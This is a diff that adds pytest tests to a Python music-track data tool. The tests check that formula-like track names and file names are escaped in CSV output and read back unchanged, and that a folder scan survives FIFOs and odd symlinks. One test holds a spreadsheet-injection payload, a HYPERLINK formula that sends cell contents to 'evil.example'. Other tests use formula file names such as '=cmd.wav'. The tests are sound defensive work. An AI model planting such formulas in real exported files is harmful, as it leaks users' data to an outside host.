@@ -10,6 +10,7 @@ from __future__ import annotations
 import csv
 import json
 import logging
+import os
 import re
 import subprocess
 import sys
@@ -388,6 +389,26 @@ def test_resume_never_duplicates(api, client, policy, tmp_path):
     assert len(calls_to(api, "/artists/")) == artist_calls  # known tracks need no look-ups
 
 
+def test_formula_track_names_are_escaped_and_resume_reads_them_back(api, client, policy, tmp_path):
+    from tracklens import fileio
+
+    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Formation")'
+    top = fixture("spotify_artist_top_tracks.json")
+    top["tracks"][0]["name"] = formula
+    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=top)
+    add_playlist(api)  # the same two tracks and one new one: resuming rewrites the file
+    add_enrichment(api)
+    out = tmp_path / "t.csv"
+    acquire.acquire_spotify("artist", ARTIST, out, client=client, policy=policy, progress=False)
+    again = acquire.acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)
+
+    assert (again.added, again.already_present) == (1, 2)
+    assert read_rows(out)[0]["name"] == "'" + formula  # raw: a spreadsheet shows it as text
+    rows, _ = acquire._read_csv_rows(out, required=("id",), purpose="a tracks CSV")
+    assert rows[0]["name"] == formula  # read back unchanged, not escaped twice by the resume
+    assert fileio.read_csv(out)["name"].iloc[0] == formula
+
+
 def test_refuses_to_resume_into_a_foreign_csv(client, policy, tmp_path):
     out = tmp_path / "other.csv"
     out.write_text("a,b\n1,2\n", encoding="utf-8")
@@ -631,6 +652,49 @@ def test_folder_manifest_decode_catches_silence(tmp_path):
     decoded = acquire.folder_manifest(tmp_path, decode=True, progress=False)
     assert header_only["error"].tolist() == [""]
     assert "silent" in decoded["error"].iloc[0]
+
+
+def test_folder_manifest_lists_non_regular_files_and_never_hangs(tmp_path):
+    from tracklens import fileio
+
+    root = tmp_path / "music"
+    (root / "x.wav").mkdir(parents=True)  # a folder named like audio; its clip still counts
+    sf.write(root / "x.wav" / "inside.wav", np.full(8000, 0.1, dtype=np.float32), 8000)
+    os.mkfifo(root / "fifo.wav")  # opening it for reading blocks until a writer comes: never
+    (root / "zero.wav").symlink_to("/dev/zero")  # endless bytes: checksumming never ends
+    (root / "loop.wav").symlink_to(root / "loop.wav")
+    (root / "dangling.wav").symlink_to(root / "gone.wav")
+    out = tmp_path / "manifest.csv"
+    code = f"from tracklens import acquire; acquire.write_manifest({str(root)!r}, {str(out)!r}, progress=False)"
+    try:  # in a child process: a regression must fail this test, not hang the suite
+        proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=60)
+    except subprocess.TimeoutExpired:
+        pytest.fail("acquire folder hung on a FIFO or an endless device file")
+    assert proc.returncode == 0, proc.stderr
+    manifest = fileio.read_csv(out, keep_default_na=False)
+    errors = dict(zip(manifest["path"].map(lambda p: Path(p).name), manifest["error"]))
+    assert errors == {"x.wav": "not a regular file (a folder)", "inside.wav": "",
+                      "fifo.wav": "not a regular file (a FIFO)", "zero.wav": "not a regular file (a device)",
+                      "loop.wav": "broken link (a loop of symlinks)",
+                      "dangling.wav": "broken link (points to nothing)"}
+
+
+def test_manifest_escapes_formula_file_names_and_reads_back(tmp_path, monkeypatch):
+    from tracklens import fileio
+
+    tone = np.full(8000, 0.1, dtype=np.float32)
+    (tmp_path / "=cmd").mkdir()
+    for name in ("=cmd.wav", "+x.wav", "@x.wav", "=cmd/-2+3.wav"):
+        sf.write(tmp_path / name, tone, 8000)
+    monkeypatch.chdir(tmp_path)  # paths are written as found: "=cmd.wav", not "/tmp/.../=cmd.wav"
+    acquire.write_manifest(".", tmp_path / "manifest.csv", progress=False)
+
+    raw = read_rows(tmp_path / "manifest.csv")
+    assert sorted(r["path"] for r in raw) == ["'+x.wav", "'=cmd.wav", "'=cmd/-2+3.wav", "'@x.wav"]
+    assert {r["label"] for r in raw} == {"", "'=cmd"}
+    back = fileio.read_csv(tmp_path / "manifest.csv", keep_default_na=False)
+    assert sorted(back["path"]) == ["+x.wav", "=cmd.wav", "=cmd/-2+3.wav", "@x.wav"]
+    assert set(back["label"]) == {"", "=cmd"} and (back["error"] == "").all()
 
 
 @pytest.mark.parametrize("make, match", [
